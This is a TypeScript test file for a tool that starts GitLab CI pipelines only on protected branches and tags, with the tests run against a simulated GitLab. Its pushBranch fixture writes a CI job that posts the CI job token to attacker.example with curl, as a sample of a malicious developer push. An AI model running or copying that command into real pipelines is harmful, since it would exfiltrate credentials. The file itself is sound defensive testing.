import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { GitLabClient } from "../../../lib/gitlab/index.ts";
import { RateLimiterRegistry } from "../../../lib/http/index.ts";
import { exitCode, runPipeline, type PipelineOptions } from "../../../lib/jobs/index.ts";
import { parsePolicy } from "../../../lib/policy/index.ts";
import { generateOrganisation, startGitLabSim, type GitLabSim, type SimProject } from "../../../sim/gitlab/index.ts";
import { commitSha } from "../../../sim/gitlab/repository.ts";
import { validated } from "../../support/report.ts";

/** A branch a developer pushes with a CI file of their own: what a pipeline on it would run. */
function pushBranch(project: SimProject, branch: string): string {
  return sim.repositories.commit(project, { ".gitlab-ci.yml": "steal:\n  script: curl -d @$CI_JOB_TOKEN https://attacker.example\n" }, branch);
}

const POLICY = parsePolicy(
  `version: 1
pipelines:
  allow:
    - project: "acme/platform/**"
      refs: ["main", "release/*"]
      variables: ["DEPLOY_ENV", "DRY_RUN"]
`,
  "test.yaml",
);

let sim: GitLabSim;
let platform: SimProject;
beforeEach(async () => {
  sim = await startGitLabSim({ dataset: generateOrganisation({ projects: 200, seed: 3 }).dataset });
  platform = sim.dataset.projects.find((p) => p.path_with_namespace.startsWith("acme/platform/"))!;
  // The release branches made so far are protected; one a developer pushes next is not.
  platform.protected_branches = ["main", "release/1.*"];
});
afterEach(() => sim.close());

/** A start (--apply) unless told otherwise. */
function run(opts: Partial<PipelineOptions>) {
  const gitlab = new GitLabClient({ url: sim.url, token: sim.token, limiters: new RateLimiterRegistry(), retry: { baseDelayMs: 5 } });
  return validated(runPipeline({ gitlab, policy: POLICY, project: platform.path_with_namespace, ref: "main", variables: [], apply: true, ...opts }));
}

/** Every route the simulator saw that is not a read. */
const changes = () => Object.keys(sim.counters.byRoute).filter((route) => !route.startsWith("GET "));

describe("pipeline job", () => {
  it("starts an allowed pipeline (201) and reports its id, status and web_url", async () => {
    const report = await run({ ref: "release/1.0", variables: [{ key: "DEPLOY_ENV", value: "prod+eu 1" }] });
    const [action] = report.actions;
    expect(action).toMatchObject({ status: "created", project: platform.path_with_namespace, ref: "release/1.0", variables: ["DEPLOY_ENV"], pipelineId: expect.any(Number) });
    expect(action!.webUrl).toMatch(new RegExp(`/${platform.path_with_namespace}/-/pipelines/\\d+$`));
    // Values travel intact in the JSON body ('+' and spaces included) and stay out of the report.
    expect(sim.pipelines).toEqual([expect.objectContaining({ project_id: platform.id, ref: "release/1.0", variables: [{ key: "DEPLOY_ENV", value: "prod+eu 1" }] })]);
    expect(JSON.stringify(report)).not.toContain("prod+eu");
    expect(exitCode(report)).toBe(0);
  });

  it.each([
    ["a project outside the rules", { project: "acme/mobile/ios/whatever" }, /project acme\/mobile\/ios\/whatever/],
    ["a ref outside the rules", { ref: "feature/login" }, /feature\/login/],
    ["variables not listed (named, not dropped)", { variables: [{ key: "DEPLOY_ENV", value: "x" }, { key: "SECRET_SAUCE", value: "y" }] }, /SECRET_SAUCE/],
  ])("refuses %s with the reason and no call to start anything", async (_name, opts, reason) => {
    const report = await run(opts);
    expect(report.actions[0]).toMatchObject({ status: "refused", reason: expect.stringMatching(reason) });
    expect(sim.counters.byRoute["POST /projects/:id/pipeline"]).toBeUndefined();
    expect(sim.pipelines).toEqual([]);
    expect(exitCode(report)).toBe(1);
  });

  it.each([
    ["a ref git would refuse", { ref: "main..release/1.0" }, /^ref "main\.\.release\/1\.0" is not a valid git ref name/],
    ["a ref with a control character", { ref: "main\x1b[2K" }, /is not a valid git ref name: it contains a space or a control character/],
    ["a variable given twice", { variables: [{ key: "DEPLOY_ENV", value: "a" }, { key: "DEPLOY_ENV", value: "b" }] }, /^variable DEPLOY_ENV is given twice$/],
  ])("refuses %s itself, before any request (the console and worker path)", async (_name, opts, reason) => {
    const report = await run(opts);
    expect(report.actions[0]).toMatchObject({ status: "refused", reason: expect.stringMatching(reason) });
    expect(sim.counters.requests).toBe(0);
    expect(exitCode(report)).toBe(1);
  });

  it("throws, before any request, when the policy has no pipelines section", async () => {
    await expect(run({ policy: parsePolicy("version: 1\n", "t.yaml") })).rejects.toThrow(/^the policy has no pipelines section: add pipelines\.allow/);
    expect(sim.counters.requests).toBe(0);
  });

  it("judges the project GitLab resolves, so an old path cannot borrow another project's rule", async () => {
    const renamed = sim.dataset.projects.find((p) => p.previous_paths.length > 0)!;
    const oldPath = renamed.previous_paths[0]!;
    const policyFor = (glob: string) => parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "${glob}", refs: [main] }\n`, "t.yaml");

    const byOldRule = await run({ project: oldPath, policy: policyFor(oldPath) });
    // Refused by the path asked: where the project is now is not told (whoever asked may not see its group).
    expect(byOldRule.actions[0]).toMatchObject({ status: "refused", project: oldPath });
    expect(byOldRule.actions[0]!.reason).toMatch(/is not at that path \(moved or renamed since, or named by id\)/);
    expect(JSON.stringify(byOldRule)).not.toContain(renamed.path_with_namespace);
    expect(sim.pipelines).toEqual([]);

    // Requested by its old path while only the current one is allowed: refused before any call (the
    // requester must name the project as it is now); by its current path it starts, by numeric id.
    const byNewRule = await run({ project: oldPath, policy: policyFor(renamed.path_with_namespace) });
    expect(byNewRule.actions[0]!.status).toBe("refused");
    expect(byNewRule.actions[0]!.reason).toMatch(/project/);
    const direct = await run({ project: renamed.path_with_namespace, policy: policyFor(renamed.path_with_namespace) });
    expect(direct.actions[0]!.status).toBe("created");
    expect(sim.pipelines.map((p) => p.project_id)).toEqual([renamed.id]);
  });

  it("is a dry run without apply: the same checks, GETs only, and the branch and commit it would start on", async () => {
    const audit: string[] = [];
    const report = await run({ apply: false, ref: "release/1.0", variables: [{ key: "DEPLOY_ENV", value: "staging" }], audit: { info: (message) => audit.push(message) } });
    expect(report).toMatchObject({ dryRun: true, summary: { allowed: true, rule: expect.stringMatching(/^allow\[0\]/) } });
    expect(report.actions[0]).toEqual({
      type: "create-pipeline",
      project: platform.path_with_namespace,
      ref: "release/1.0",
      refKind: "branch",
      commit: commitSha(platform, "release/1.0"),
      refProtected: true,
      variables: ["DEPLOY_ENV"],
      status: "planned",
    });
    expect(exitCode(report)).toBe(2);
    // The branch name travels URL-encoded (release%2F1.0): the simulator answers it by that route only.
    // The tag of the same name is looked up beside it: GitLab refuses a ref that names both.
    expect(sim.counters.byRoute).toEqual({ "GET /projects/:id": 1, "GET /projects/:id/repository/branches/:branch": 1, "GET /projects/:id/repository/tags/:tag": 1, "GET /projects/:id/ci/lint": 1, "GET /projects/:id/repository/files/:file_path": 1 });
    expect(sim.pipelines).toEqual([]);
    expect(audit).toEqual([]);
  });

  it("takes a tag when no branch has the ref's name, as GitLab does", async () => {
    const tags = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/**", refs: ["stable/*"] }\n`, "t.yaml");
    platform.protected_tags = ["stable/*"];
    const report = await run({ apply: false, ref: "stable/2024.06", policy: tags });
    expect(report.actions[0]).toMatchObject({ status: "planned", refKind: "tag", commit: commitSha(platform, "stable/2024.06") });
    expect(sim.counters.byRoute["GET /projects/:id/repository/tags/:tag"]).toBe(1);
    expect(changes()).toEqual([]);
  });

  it.each([true, false])("refuses a ref that is neither a branch nor a tag, naming it, and starts nothing (apply: %s)", async (apply) => {
    const report = await run({ apply, ref: "release/9.9" });
    expect(report.actions[0]).toMatchObject({ status: "refused", reason: `ref release/9.9 is neither a branch nor a tag of project ${platform.path_with_namespace}` });
    expect(report.summary.allowed).toBe(false);
    expect(changes()).toEqual([]);
    expect(exitCode(report)).toBe(1);
  });

  it("does not take another 404 on the branch (a proxy's, say) for a missing branch", async () => {
    sim.addFaults({ kind: "status", status: 404, route: "GET /projects/:id/repository/branches/:branch", times: 1 });
    await expect(run({ apply: false })).rejects.toThrow(/repository\/branches\/main answered 404: 404 Not Found/);
    expect(changes()).toEqual([]);
  });

  it("reports a 502 after sending as unknown, and never retries the POST", async () => {
    sim.addFaults({ kind: "apply-then-status", status: 502, route: "POST /projects/:id/pipeline", times: 1 });
    const report = await run({});
    expect(report.actions[0]).toMatchObject({ status: "unknown", error: expect.stringMatching(/^unknown — check the project's pipelines/) });
    expect(sim.counters.byRoute["POST /projects/:id/pipeline"]).toBe(1);
    expect(sim.pipelines).toHaveLength(1);
    expect(exitCode(report)).toBe(1);
  });

  // Any 5xx: GitLab's own 500, and a CDN's or gateway's, whose 520 ("unknown error") and 524 ("the origin
  // timed out") come after the origin has the request (both were reported "failed", inviting a second start).
  it.each([500, 520, 524])("reports a %i after sending as unknown too, and never retries the POST", async (status) => {
    sim.addFaults({ kind: "apply-then-status", status, route: "POST /projects/:id/pipeline", times: 1 });
    const report = await run({});
    expect(report.actions[0]).toMatchObject({ status: "unknown", error: expect.stringMatching(/^unknown — check the project's pipelines/) });
    expect(sim.pipelines).toHaveLength(1);
  });

  it("retries the POST after a 429, which GitLab answers before doing anything", async () => {
    sim.addFaults({ kind: "429", headers: "retry-after", seconds: 0, route: "POST /projects/:id/pipeline", times: 1 });
    const report = await run({});
    expect(report.actions[0]!.status).toBe("created");
    expect(sim.pipelines).toHaveLength(1);
  });
});

describe("pipeline job: only a protected ref runs with Warden's identity", () => {
  const POST = "POST /projects/:id/pipeline";

  it("refuses an unprotected branch the rule's glob matches (a developer's release/x), naming the cause and the fix, and sends no POST", async () => {
    pushBranch(platform, "release/x");
    for (const apply of [true, false]) {
      const report = await run({ apply, ref: "release/x" });
      expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "branch", refProtected: false });
      expect(report.actions[0]!.reason).toBe(
        `branch release/x of project ${platform.path_with_namespace} is not protected: whoever can push to it chooses what a pipeline Warden starts runs, with Warden's identity. ` +
          "Protect the branch in GitLab (Settings > Repository > Protected branches), or set unprotected: true on its rule, allow[0] acme/platform/**, to allow unprotected refs",
      );
      expect(report.summary.allowed).toBe(false);
      expect(exitCode(report)).toBe(1);
    }
    expect(sim.counters.byRoute[POST]).toBeUndefined();
    expect(sim.pipelines).toEqual([]);
  });

  it("refuses a protected branch Developers may push to (their own CI file, run with Warden's identity), naming the cause and the fix, and sends no POST", async () => {
    sim.protectedBranches.protect(platform, "release/*", { developersCanPush: true });
    pushBranch(platform, "release/x");
    const report = await run({ ref: "release/x" });
    expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "branch", refProtected: true });
    expect(report.actions[0]!.reason).toBe(
      `branch release/x of project ${platform.path_with_namespace} is protected, but Developers may push to it: any Developer chooses what a pipeline Warden starts runs, with Warden's identity. ` +
        "Allow only Maintainers to push to it and merge into it in GitLab (Settings > Repository > Protected branches), or set unprotected: true on its rule, allow[0] acme/platform/**, to allow it",
    );
    expect(sim.counters.byRoute[POST]).toBeUndefined();
    expect(sim.pipelines).toEqual([]);
    // The rule's own opt-out takes it, as it takes an unprotected branch.
    const policy = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/platform/**", refs: ["release/*"], unprotected: true }\n`, "t.yaml");
    expect((await run({ ref: "release/x", policy })).actions[0]).toMatchObject({ status: "created" });
  });

  it("refuses a protected branch Developers may merge into (a merge request of their own changes the CI file), and sends no POST", async () => {
    sim.protectedBranches.protect(platform, "release/*", { developersCanMerge: true });
    pushBranch(platform, "release/x");
    const report = await run({ ref: "release/x" });
    expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "branch", refProtected: true });
    expect(report.actions[0]!.reason).toContain("is protected, but Developers may merge into it: any Developer chooses what a pipeline Warden starts runs, with Warden's identity");
    expect(sim.counters.byRoute[POST]).toBeUndefined();
  });

  it("starts on a branch a wildcard protection rule covers, and says it is protected", async () => {
    platform.protected_branches = ["main", "release/*"];
    const head = pushBranch(platform, "release/x");
    const report = await run({ ref: "release/x" });
    expect(report.actions[0]).toMatchObject({ status: "created", refKind: "branch", refProtected: true, commit: head });
    expect(sim.pipelines).toEqual([expect.objectContaining({ ref: "release/x", sha: head })]);
  });

  it("starts on an unprotected branch only where the rule says unprotected: true, and reports it unprotected", async () => {
    pushBranch(platform, "release/x");
    const policy = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/platform/**", refs: ["main"] }\n    - { project: "acme/platform/**", refs: ["release/*"], unprotected: true }\n`, "t.yaml");
    const report = await run({ ref: "release/x", policy });
    expect(report.summary).toMatchObject({ allowed: true, rule: "allow[1] acme/platform/**" });
    expect(report.actions[0]).toMatchObject({ status: "created", refProtected: false });
    expect(sim.pipelines).toHaveLength(1);
  });

  describe.each([true, false])("a tag (tags carry protected: %s)", (tagProtectedField) => {
    const TAGS = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/**", refs: ["v*", "stable/*"] }\n`, "t.yaml");
    beforeEach(async () => {
      await sim.close();
      sim = await startGitLabSim({ dataset: generateOrganisation({ projects: 200, seed: 3 }).dataset, tagProtectedField });
      platform = sim.dataset.projects.find((p) => p.path_with_namespace.startsWith("acme/platform/"))!;
      platform.protected_tags = ["v1.0.0", "stable/*"];
    });

    it("protected by a rule of exactly its name: started", async () => {
      const report = await run({ ref: "v1.0.0", policy: TAGS });
      expect(report.actions[0]).toMatchObject({ status: "created", refKind: "tag", refProtected: true });
      expect(sim.pipelines).toHaveLength(1);
    });

    it("protected by a rule that lets Developers create such tags (a tag on their own commit, its CI file run with Warden's identity): refused naming the fix, no POST", async () => {
      sim.protectedTags.protect(platform, "v1.*", { developersCanCreate: true });
      const report = await run({ ref: "v1.0.0", policy: TAGS });
      expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "tag", refProtected: true });
      expect(report.actions[0]!.reason).toBe(
        `tag v1.0.0 of project ${platform.path_with_namespace} is protected, but Developers may create tags its protection rule v1.* matches: any Developer chooses what a pipeline Warden starts runs, with Warden's identity. ` +
          "Allow only Maintainers to create them in GitLab (Settings > Repository > Protected tags), or set unprotected: true on its rule, allow[0] acme/**, to allow it",
      );
      expect(sim.counters.byRoute[POST]).toBeUndefined();
    });

    it("not protected: refused naming the fix, no POST", async () => {
      const report = await run({ ref: "v1.1.0", policy: TAGS });
      expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "tag" });
      expect(report.actions[0]!.refProtected).toBe(tagProtectedField ? false : undefined);
      if (tagProtectedField) expect(report.actions[0]!.reason).toMatch(/^tag v1\.1\.0 of project .* is not protected: .* Protect the tag in GitLab \(Settings > Repository > Protected tags\), or set unprotected: true on its rule, allow\[0\] acme\/\*\*, to allow unprotected refs$/);
      else expect(report.actions[0]!.reason).toMatch(/^tag v1\.1\.0 of project .*: this GitLab does not say whether a tag is protected/);
      expect(sim.counters.byRoute[POST]).toBeUndefined();
    });

    it(tagProtectedField ? "protected by a wildcard rule alone: started (GitLab says so on the tag)" : "protected by a wildcard rule alone: refused, as GitLab does not say so (fail closed), naming the fix", async () => {
      const report = await run({ ref: "stable/2024.06", policy: TAGS });
      if (tagProtectedField) {
        expect(report.actions[0]).toMatchObject({ status: "created", refProtected: true });
        expect(sim.pipelines).toHaveLength(1);
      } else {
        expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "tag" });
        expect(report.actions[0]!.refProtected).toBeUndefined();
        expect(report.actions[0]!.reason).toMatch(/^tag stable\/2024\.06 of project .*: this GitLab does not say whether a tag is protected, and no protected-tag rule has exactly its name .* protect the tag by its exact name, or set unprotected: true on its rule, allow\[0\] acme\/\*\*, to allow unprotected refs$/);
        expect(sim.counters.byRoute[POST]).toBeUndefined();
      }
    });
  });

  it("cancels a pipeline that runs another commit than the one checked (the branch moved in between), and reports it", async () => {
    platform.protected_branches = ["main", "release/*"];
    const checked = pushBranch(platform, "release/x");
    let moved = "";
    // The race: a push lands after the checks, as the POST reaches GitLab.
    sim.beforeAnswer(({ route }) => {
      if (route === POST && moved === "") moved = pushBranch(platform, "release/x");
    });
    const report = await run({ ref: "release/x" });
    const [pipeline] = sim.pipelines;
    expect(pipeline).toMatchObject({ sha: moved, status: "canceled" });
    expect(report.actions[0]).toMatchObject({ status: "failed", commit: checked, pipelineCommit: moved, pipelineId: pipeline!.id, pipelineStatus: "canceled" });
    expect(report.actions[0]!.error).toBe(
      `the pipeline runs commit ${moved.slice(0, 8)}, not ${checked.slice(0, 8)} that was checked (release/x moved in between): cancelled it; check the branch and run the command again`,
    );
    expect(sim.counters.byRoute["POST /projects/:id/pipelines/:pipeline_id/cancel"]).toBe(1);
    expect(exitCode(report)).toBe(1);
  });

  it("says so when the mismatched pipeline could not be cancelled, and never retries the cancel", async () => {
    platform.protected_branches = ["main", "release/*"];
    pushBranch(platform, "release/x");
    let moved = "";
    sim.beforeAnswer(({ route }) => {
      if (route === POST && moved === "") moved = pushBranch(platform, "release/x");
    });
    sim.addFaults({ kind: "status", status: 503, route: "POST /projects/:id/pipelines/:pipeline_id/cancel", times: 1 });
    const report = await run({ ref: "release/x" });
    expect(report.actions[0]).toMatchObject({ status: "failed", pipelineCommit: moved });
    expect(report.actions[0]!.error).toMatch(/^the pipeline runs commit [0-9a-f]{8}, not [0-9a-f]{8} that was checked \(release\/x moved in between\), and cancelling it failed: .*503.*: cancel it at http/);
    expect(sim.pipelines[0]!.status).toBe("created");
    expect(sim.counters.byRoute["POST /projects/:id/pipelines/:pipeline_id/cancel"]).toBe(1);
  });
});
